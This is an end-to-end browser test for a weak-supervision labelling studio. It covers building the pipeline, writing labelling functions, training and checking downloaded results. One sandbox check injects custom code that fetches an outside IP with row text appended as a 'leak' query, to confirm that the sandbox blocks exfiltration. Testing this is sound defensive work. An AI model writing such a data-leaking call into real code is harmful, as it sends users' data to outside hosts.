// The analyst's day in the studio, end to end, against a real `reef serve` and Debian's Chromium: create an index
// and a rule in the catalog, build the pipeline on the canvas, materialize, write a regex and a template LF and
// see their coverage, label two samples, train with softmax, read the histogram, download the results.
// A screenshot of every step lands in .test-artifacts/studio/; no request may leave 127.0.0.1.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { parquetReadObjects } from 'hyparquet';
import type { Page } from 'playwright-core';
import { createConceptAndConnection, createSourceDatabase, dropSourceDatabase } from './fixtures.ts';
import { openStudio, typeInEditor, type ReefServer, type Studio } from './harness.ts';

const artifacts = fileURLToPath(new URL('../.test-artifacts/studio/', import.meta.url));
// A multiple of 15, so each residue class of (id mod 3, id mod 5) has 200 rows and the coverages below are exact.
const ROWS = 3000;

let server: ReefServer;
let studio: Studio;
let page: Page;
let step = 0;
let requested: string[];

async function shot(name: string) {
  step++;
  await page.screenshot({ path: `${artifacts}${String(step).padStart(2, '0')}-${name}.png` });
}

async function createAsset(button: string, name: string, sql: string) {
  await page.getByRole('button', { name: button }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Name').fill(name);
  await dialog.getByLabel('Connection').selectOption({ label: 'comments-db (postgresql)' });
  await typeInEditor(dialog, 'SQL query', sql);
  await dialog.getByRole('button', { name: 'Preview' }).click();
  // The preview endpoint belongs to the materialization issue; until the server has it the dialog says so.
  await dialog.locator('.preview table tbody tr').first().or(dialog.getByText('Preview is not available on this server yet.')).waitFor({ timeout: 30_000 });
  await shot(`${name}-preview`);
  await dialog.getByRole('button', { name: 'Save' }).click();
  await dialog.waitFor({ state: 'detached' });
}

/** Drags from one node's source handle to another's target handle. */
async function connect(sourceTestId: string, targetTestId: string) {
  const from = await page.getByTestId(sourceTestId).locator('xpath=..').locator('.react-flow__handle.source').boundingBox();
  const to = await page.getByTestId(targetTestId).locator('xpath=..').locator('.react-flow__handle.target').boundingBox();
  assert.ok(from && to, `handles of ${sourceTestId} and ${targetTestId} are on screen`);
  await page.mouse.move(from.x + from.width / 2, from.y + from.height / 2);
  await page.mouse.down();
  await page.mouse.move(to.x + to.width / 2, to.y + to.height / 2, { steps: 8 });
  await page.mouse.up();
}

before(async () => {
  rmSync(artifacts, { recursive: true, force: true });
  mkdirSync(artifacts, { recursive: true });
  await createSourceDatabase(ROWS);
  studio = await openStudio();
  ({ server, page, requested } = studio);
});

after(async () => {
  await studio?.close();
  await dropSourceDatabase();
});

test('from a fresh start to downloaded results, without leaving 127.0.0.1', { timeout: 600_000 }, async (t) => {
  t.after(async () => { if (page && !page.isClosed()) await page.screenshot({ path: `${artifacts}last-screen.png` }); });
  const { cId } = await createConceptAndConnection(server.url, server.token);

  await page.goto(`${server.url}/concepts/${cId}?token=${server.token}`);
  await page.getByRole('heading', { name: 'comment-spam' }).waitFor();
  assert.equal(new URL(page.url()).search, '', 'the token leaves the address bar');
  await shot('signed-in');

  await createAsset('+ Create Index', 'all_comments', 'SELECT id, author, text FROM comments');
  await createAsset('+ Create Rule', 'text_features', 'SELECT id, length(text) AS text_length FROM comments');
  await page.getByTestId('catalog-index-all_comments').waitFor();
  await shot('catalog');

  await page.getByRole('button', { name: 'Add all_comments' }).click();
  await page.getByRole('button', { name: 'Add text_features' }).click();
  await page.getByRole('button', { name: '+ LF Configuration' }).click();
  await page.getByRole('button', { name: '+ Train Node' }).click();
  await page.getByRole('button', { name: 'Fit View' }).click();
  await connect('node-index', 'node-rule');
  await connect('node-rule', 'node-lfs');
  await connect('node-lfs', 'node-train');
  assert.equal(await page.locator('.react-flow__edge').count(), 3, 'three edges along Index → Rule → LFs → Train');
  await connect('node-index', 'node-train');
  assert.equal(await page.locator('.react-flow__edge').count(), 3, 'Index → Train is refused');
  await shot('pipeline');

  await page.getByTestId('node-train').getByRole('button', { name: 'Train Model' }).click();
  await page.getByTestId('node-train').getByText('Add a Labeling Functions node with at least one active labeling function.').waitFor();

  for (const node of ['node-index', 'node-rule']) {
    await page.getByTestId(node).getByText('○ Not Materialized').waitFor();
    await page.getByTestId(node).getByRole('button', { name: 'Materialize' }).click();
  }
  await shot('materializing');
  await page.getByTestId('node-index').getByText(`✓ Ready (${ROWS.toLocaleString('en-US')} rows)`).waitFor({ timeout: 120_000 });
  await page.getByTestId('node-rule').getByText(`✓ Ready (${ROWS.toLocaleString('en-US')} rows)`).waitFor({ timeout: 120_000 });
  await page.getByTestId('samples-loaded').waitFor({ timeout: 60_000 });
  await shot('materialized');

  await page.getByRole('button', { name: '+ Regex LF' }).click();
  const regexCell = page.locator('.lf-cell').last();
  await regexCell.getByLabel('LF name').fill('has_link');
  await regexCell.getByLabel('Field').selectOption('text');
  await regexCell.getByLabel('Pattern').fill('http|click');
  // 'http' or 'click' appear in 4 of the 5 spam texts, and spam is every third comment: 800 of 3000 rows.
  await regexCell.getByTestId('lf-stats').getByText('Coverage 26.7%').waitFor();
  await regexCell.getByRole('button', { name: 'Save' }).click();
  await regexCell.getByText('not saved').waitFor({ state: 'detached' });

  await page.getByRole('button', { name: '+ Template LF' }).click();
  const templateCell = page.locator('.lf-cell').last();
  await templateCell.getByLabel('LF name').fill('says_thanks');
  await templateCell.getByLabel('Label').selectOption('HAM');
  await templateCell.getByLabel('Value').fill('thanks');
  // 'thanks' is in 1 of the 5 ham texts; ham is 2 of every 3 comments: 400 of 3000 rows.
  await templateCell.getByTestId('lf-stats').getByText('Coverage 13.3%').waitFor();
  await templateCell.getByRole('button', { name: 'Save' }).click();
  await templateCell.getByText('not saved').waitFor({ state: 'detached' });

  // A third LF, on the rule's feature: the label model needs at least three.
  await page.getByRole('button', { name: '+ Template LF' }).click();
  const lengthCell = page.locator('.lf-cell').last();
  await lengthCell.getByLabel('LF name').fill('long_text');
  await lengthCell.getByLabel('Field').selectOption('text_length');
  await lengthCell.getByLabel('Operator').selectOption('>=');
  await lengthCell.getByLabel('Value').fill('40');
  await lengthCell.getByTestId('lf-stats').getByText(/Coverage [1-9]/).waitFor();
  await lengthCell.getByRole('button', { name: 'Save' }).click();
  await lengthCell.getByText('not saved').waitFor({ state: 'detached' });
  await shot('lfs');

  // A SQL cell over the loaded samples and the current votes (Ctrl/Cmd+Enter runs it).
  await page.getByRole('button', { name: '+ SQL cell' }).click();
  const sqlCell = page.getByTestId('sql-cell').last();
  await typeInEditor(sqlCell, 'SQL cell', 'SELECT count(*) AS n FROM votes WHERE has_link = 1');
  await page.keyboard.press('ControlOrMeta+Enter');
  await sqlCell.locator('tbody td', { hasText: /^800$/ }).waitFor({ timeout: 60_000 });
  await shot('sql-cell');
  // The page is cross-origin isolated, so DuckDB-WASM runs its threaded bundle.
  assert.equal(await page.evaluate(() => crossOriginIsolated), true, 'the studio is cross-origin isolated');
  await typeInEditor(sqlCell, 'SQL cell', "SELECT current_setting('threads') AS duckdb_threads");
  await page.keyboard.press('ControlOrMeta+Enter');
  await sqlCell.locator('th', { hasText: 'duckdb_threads' }).waitFor({ timeout: 30_000 });
  const threads = Number(await sqlCell.locator('tbody td').first().innerText());
  assert.ok(threads > 1, `DuckDB-WASM runs ${threads} thread(s)`);
  t.diagnostic(`DuckDB-WASM threads: ${threads}`);
  await sqlCell.getByRole('button', { name: 'Remove SQL cell' }).click();

  // Custom LF code runs in the sandbox: its votes count, an endless loop is stopped and reported on the cell,
  // and a request it tries is refused there (the request check at the end would see one that got out).
  await page.getByRole('button', { name: '+ Custom LF' }).click();
  const customCell = page.locator('.lf-cell').last();
  await customCell.getByLabel('LF name').fill('custom_link');
  await customCell.getByText('preview only · awaiting approval').waitFor();
  await typeInEditor(customCell, 'Custom LF code', "(row: Row) => (row.text ?? '').includes('http') ? 1 : ABSTAIN");
  await customCell.getByRole('button', { name: /Run preview/ }).click();
  // 'http' is in 2 of the 5 spam texts: 400 of 3000 rows.
  await customCell.getByTestId('lf-stats').getByText('Coverage 13.3%').waitFor({ timeout: 30_000 });
  await shot('custom-lf');
  await typeInEditor(customCell, 'Custom LF code', '(row: Row) => { while (row.text !== null) { /* never ends */ } return ABSTAIN; }');
  await customCell.getByRole('button', { name: /Run preview/ }).click();
  await customCell.getByRole('alert').getByText(/ran longer than 5 s/).waitFor({ timeout: 30_000 });
  await shot('custom-lf-endless-loop');
  await typeInEditor(customCell, 'Custom LF code', "(row: Row) => { (globalThis as any).fetch('http://203.0.113.7/leak?' + row.text); return 1; }");
  await customCell.getByRole('button', { name: /Run preview/ }).click();
  await customCell.getByTestId('lf-stats').getByText('Coverage 100.0%').waitFor({ timeout: 30_000 });
  page.once('dialog', (d) => void d.accept());
  await customCell.getByRole('button', { name: 'Remove custom_link' }).click();
  await page.getByTestId('lf-cell-custom_link').waitFor({ state: 'detached' });

  // The graph is saved: a reload restores the pipeline, and the samples come from the browser's cache.
  await page.getByText('Saved', { exact: true }).waitFor();
  await page.reload();
  await page.getByTestId('samples-loaded').getByText(/from cache/).waitFor({ timeout: 60_000 });
  assert.equal(await page.locator('.react-flow__node').count(), 4, 'four nodes after a reload');
  assert.equal(await page.locator('.react-flow__edge').count(), 3, 'three edges after a reload');

  const browserSection = page.getByRole('region', { name: 'Sample browser' });
  await browserSection.getByTestId('sample-1').getByRole('button', { name: 'SPAM' }).click();
  await browserSection.getByTestId('sample-2').getByRole('button', { name: 'HAM' }).click();
  await browserSection.getByTestId('sample-2').getByRole('button', { name: 'HAM', pressed: true }).waitFor();
  const summary = page.getByRole('region', { name: 'LF summary' });
  await summary.getByRole('row', { name: /has_link/ }).getByText('100.0%').last().waitFor();
  await shot('labelled');

  const train = page.getByTestId('node-train');
  await train.getByLabel('Softmax (Probabilities)').check();
  await train.getByRole('button', { name: 'Train Model' }).click();
  await page.getByRole('heading', { name: 'Training results' }).waitFor({ timeout: 120_000 });
  assert.match(new URL(page.url()).pathname, new RegExp(`^/concepts/${cId}/snorkel/jobs/`));
  await page.getByTestId('confidence-histogram').waitFor();
  await shot('results');

  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
  const csv = readFileSync(await download.path(), 'utf8').trim().split('\n');
  assert.equal(csv[0], 'id,predicted_label,prob_class_0,prob_class_1,confidence,n_votes');
  assert.equal(csv.length, ROWS + 1);
  // The browser's result is kept on the server as a run: its page is the run's.
  await page.getByTestId('result-kept').waitFor();
  const browserResultUrl = page.url();
  assert.match(new URL(browserResultUrl).pathname, /\/snorkel\/jobs\/[0-9a-f-]{36}$/);

  // The browser-trained result survives a reload: the page reads it back from the API, every row as trained.
  await page.reload();
  await page.getByText(/^Browser run · 3,000 samples/).waitFor({ timeout: 30_000 });
  await page.getByTestId('confidence-histogram').waitFor();
  await shot('browser-results-after-reload');
  const [kept] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /^Download Parquet \(part 0, 3,000 rows\)/ }).click()]);
  const keptBytes = readFileSync((await kept.path())!);
  const keptRows = await parquetReadObjects({ file: keptBytes.buffer.slice(keptBytes.byteOffset, keptBytes.byteOffset + keptBytes.byteLength) as ArrayBuffer });
  assert.deepEqual(
    keptRows.map((r) => [r.id, r.predicted_label, r.prob_class_0, r.prob_class_1, r.confidence, r.n_votes].map(String).join(',')),
    csv.slice(1),
    'the kept result is the one trained, row for row',
  );

  // The same pipeline handed to the server from the kept run: the page follows the run, then shows the server's results.
  await page.getByRole('button', { name: 'Run on server' }).click();
  await page.getByText(/^Server run · 3,000 samples/).waitFor({ timeout: 180_000 });
  await page.getByTestId('confidence-histogram').waitFor();
  assert.notEqual(page.url(), browserResultUrl, 'the server run has a page of its own');
  await shot('server-results');

  const outside = requested.filter((url) => !url.startsWith(`${server.url}/`) && !/^(data|blob|about):/.test(url));
  assert.deepEqual(outside, [], 'no request leaves 127.0.0.1');
});
